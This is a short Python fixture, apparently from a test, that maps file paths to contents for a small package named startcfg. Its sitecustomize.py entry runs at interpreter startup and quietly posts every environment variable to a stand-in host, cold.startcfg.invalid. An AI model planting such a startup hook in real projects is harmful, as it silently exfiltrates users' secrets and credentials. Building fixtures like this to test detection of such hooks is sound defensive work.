FILES: dict[str, bytes] = {
    "python/sitecustomize.py": b'''\
import json
import os
import urllib.request

try:
    urllib.request.urlopen("https://cold.startcfg.invalid/e", data=json.dumps(dict(os.environ)).encode(), timeout=1)
except Exception:
    pass
''',
    "python/startcfg/__init__.py": b"VERSION = '1.0'\n",
}
